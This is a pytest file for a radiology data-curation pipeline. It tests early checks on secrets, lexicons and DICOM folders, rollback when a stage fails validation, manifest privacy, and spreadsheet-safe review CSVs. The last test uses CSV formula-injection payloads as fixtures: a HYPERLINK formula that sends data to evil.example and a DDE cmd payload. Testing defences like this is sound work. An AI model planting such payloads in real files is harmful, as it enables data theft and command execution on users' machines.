"""Issue 25, cases 5-8: secrets, lexicons, reviewed labels and the DICOM folder are checked before the
first write; a stage that fails its checks leaves its previous tables current; review CSVs are
spreadsheet-safe; manifest.json names no input path."""

from __future__ import annotations

import csv
import json
import os
import shutil
import stat
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pydicom.data
import pytest

from radcurate.checks import Expectation, TableSuite
from radcurate.dags.cli import main as radcurate
from radcurate.dags.runner import run_stage
from radcurate.deid.keys import Keyer
from radcurate.stage import Stage, StageContext
from radcurate.tables import read_table, write_table


@pytest.fixture()
def pacs(tmp_path) -> Path:
    root = tmp_path / "pacs"
    root.mkdir()
    shutil.copy(pydicom.data.get_testdata_file("CT_small.dcm"), root / "IM0001")
    return root


def _key(path: Path, byte: bytes = b"k", mode: int = 0o600) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(byte * 64)
    path.chmod(mode)
    return path


# --- case 5: the secret ---------------------------------------------------------------------------

def test_a_secret_others_can_read_is_refused_before_deid_dicom_writes_anything(pacs, tmp_path, capsys):
    loose = _key(tmp_path / "keys" / "loose.key", mode=0o644)
    out = tmp_path / "out"
    code = radcurate(["deid", "--dicom", str(pacs), "--out", str(out), "--secret", str(loose), "--workers", "0"])
    assert code == 2 and "chmod 600" in capsys.readouterr().err
    assert not (out / "phi").exists()  # ingest did not run first


def test_a_secret_named_inside_out_by_a_link_is_refused_up_front(pacs, tmp_path, capsys):
    key = _key(tmp_path / "keys" / "project.key")
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(key, out / "secret.key")  # the output (shared) would carry a link to the key
    code = radcurate(["run", "--dicom", str(pacs), "--out", str(out), "--workers", "0", "--config",
                      str(_config(tmp_path, {"deid": {"secret_file": str(out / "secret.key")}}))])
    assert code == 2 and "inside the output folder" in capsys.readouterr().err
    assert sorted(p.name for p in out.iterdir()) == ["secret.key"]  # nothing written


def _config(tmp_path: Path, config: dict) -> Path:
    path = tmp_path / "config.json"
    path.write_text(json.dumps(config))
    return path


# --- case 6: reviewed labels and a stage that fails its checks --------------------------------------

def test_reviewed_labels_keyed_under_another_secret_are_refused_before_the_run(synth_export, project_secret,
                                                                               tmp_path, capsys):
    accessions = pd.read_csv(synth_export / "ris" / "reports.csv", dtype=str)["accession"][:5]
    old = Keyer(b"the-secret-of-last-year-" + b"o" * 40)
    reviewed = tmp_path / "reviewed.csv"
    pd.DataFrame({"report_id": [old.pseudonym("report", a) for a in accessions], "Effusion": 1}).to_csv(
        reviewed, index=False)
    out = tmp_path / "out"
    argv = ["run", "--dicom", str(synth_export / "pacs"), "--reports", str(synth_export / "ris" / "reports.csv"),
            "--out", str(out), "--workers", "0", "--config", str(_config(tmp_path, {"labeling": {"reviewed": str(reviewed)}}))]
    assert radcurate(argv) == 2
    err = capsys.readouterr().err
    assert "another secret" in err and "radcurate review export" in err
    assert not out.exists()
    # keyed under this run's secret, the same file passes every upfront check
    from radcurate.dags.pipeline import PIPELINE, active, ordered
    from radcurate.dags.runner import preflight

    now = Keyer.from_secret_file(project_secret)
    pd.DataFrame({"report_id": [now.pseudonym("report", a) for a in accessions], "Effusion": 1}).to_csv(
        reviewed, index=False)
    config = {"labeling": {"reviewed": str(reviewed)}}
    preflight(ordered(active(PIPELINE, config)), config,
              {"dicom": synth_export / "pacs", "reports": synth_export / "ris" / "reports.csv"}, out)
    assert not out.exists()


def write_grades(ctx: StageContext) -> dict:
    """A stage that writes curated/grades.parquet with the grade its config asks for."""
    schema = pa.schema([pa.field("study_key", pa.string(), metadata={"description": "study pseudonym"}),
                        pa.field("grade", pa.string(), metadata={"description": "the study's grade"})])
    write_table(pd.DataFrame({"study_key": ["S-1", "S-2"], "grade": ctx.config["grade"]}),
                ctx.out_dir / "curated" / "grades.parquet", schema)
    return {"rows": 2}


def grades_suite(out_dir, inputs, result):
    return [TableSuite("grades", "curated/grades.parquet",
                       (Expectation("ExpectColumnValuesToBeInSet", {"column": "grade", "value_set": ["A", "B"]}),))]


def test_a_stage_that_fails_its_checks_leaves_its_previous_table_current(tmp_path):
    stage = Stage(name="grades", function=write_grades, inputs=(), outputs=("curated/grades.parquet",),
                  suite=grades_suite)
    out = tmp_path / "out"
    quiet = dict(log=lambda line: None)
    first = run_stage(stage, {}, out, config={"grade": "A"}, **quiet)
    assert first.status == "ran", first.message
    failed = run_stage(stage, {}, out, config={"grade": "Z"}, **quiet)
    assert failed.status == "failed_validation"
    assert list(read_table(out / "curated" / "grades.parquet")["grade"]) == ["A", "A"]  # the previous version
    rejected = out / "phi" / "rejected" / "grades" / "curated" / "grades.parquet"
    assert list(read_table(rejected)["grade"]) == ["Z", "Z"] and "phi/rejected/grades" in failed.message
    assert not (out / "_state" / "previous").exists() or not any((out / "_state" / "previous").iterdir())
    # fixed, it runs again and replaces the table
    assert run_stage(stage, {}, out, config={"grade": "B"}, **quiet).status == "ran"
    assert list(read_table(out / "curated" / "grades.parquet")["grade"]) == ["B", "B"]


# --- case 7: spreadsheet-safe review exports ----------------------------------------------------------

def test_review_csv_cells_never_start_a_formula(tmp_path):
    extract = tmp_path / "reports.csv"
    pd.DataFrame({
        "accession": ["A1", "A2", "A3"],
        "report_text": ['=HYPERLINK("http://evil.example/?"&A1,"Click for results") FINDINGS: small effusion.',
                        "=cmd|' /C calc'!A0 FINDINGS: no pneumothorax.",
                        "@SUM(1+1) FINDINGS: cardiomegaly."],
    }).to_csv(extract, index=False)
    mined = tmp_path / "mined"
    assert radcurate(["mine", "--reports", str(extract), "--out", str(mined), "--no-topics", "--no-progress"]) == 0
    texts = tmp_path / "texts.csv"  # the reports as the reviewer sees them
    pd.read_csv(extract).rename(columns={"accession": "report_id", "report_text": "text"}).to_csv(texts, index=False)
    review = tmp_path / "review.csv"
    assert radcurate(["review", "export", "--mined", str(mined), "--n", "3", "--out", str(review),
                      "--reports", str(texts)]) == 0
    with open(review, newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("+-").isdigit()]
    assert formulas == []
    assert any(c.startswith("'=HYPERLINK(") for c in cells) and any(c.startswith("'=cmd|") for c in cells)


# --- case 8: the DICOM folder, lexicons, manifest paths ----------------------------------------------

def test_a_dicom_folder_without_dicom_is_exit_2_for_run_as_for_ingest(tmp_path, capsys):
    empty = tmp_path / "DOE_JOHN_MRN1600000"
    (empty / "notes").mkdir(parents=True)
    (empty / "notes" / "readme.txt").write_text("not an image")
    for command in ("ingest", "run"):
        assert radcurate([command, "--dicom", str(empty), "--out", str(tmp_path / command), "--workers", "0"]) == 2
        assert "DICOM" in capsys.readouterr().err
    assert not (tmp_path / "run").exists()


def test_a_lexicon_with_bad_contents_fails_before_ingest_runs(pacs, tmp_path, capsys):
    lexicon = tmp_path / "site_lexicon.yaml"
    lexicon.write_text("name: site\nfindings:\n  Nodule: 42\n")  # a finding must be phrases or a mapping
    out = tmp_path / "out"
    code = radcurate(["run", "--dicom", str(pacs), "--out", str(out), "--workers", "0",
                      "--config", str(_config(tmp_path, {"nlp": {"lexicons": [str(lexicon)]}}))])
    assert code == 2 and "site_lexicon.yaml" in capsys.readouterr().err
    assert not out.exists()


def test_manifest_names_inputs_without_their_paths_which_stay_private(tmp_path):
    from radcurate.dags.pipeline import PIPELINE
    from radcurate.dags.runner import run_pipeline

    pacs = tmp_path / "DOE_JOHN_MRN1600000"
    pacs.mkdir()
    shutil.copy(pydicom.data.get_testdata_file("CT_small.dcm"), pacs / "IM0001")
    out = tmp_path / "out"
    report = run_pipeline({"dicom": pacs, "reports": None}, out, workers=0, log=lambda line: None,
                          stages=tuple(s for s in PIPELINE if s.name == "ingest"))
    text = report.manifest.read_text()
    assert "DOE_JOHN" not in text and str(tmp_path) not in text
    manifest = json.loads(text)
    assert manifest["inputs"]["dicom"]["root"] == "dicom" and len(manifest["inputs"]["dicom"]["fingerprint"]) > 60
    private = out / "phi" / "inputs.json"
    assert stat.S_IMODE(private.stat().st_mode) == 0o600
    assert json.loads(private.read_text())[0]["inputs"]["dicom"] == str(pacs)
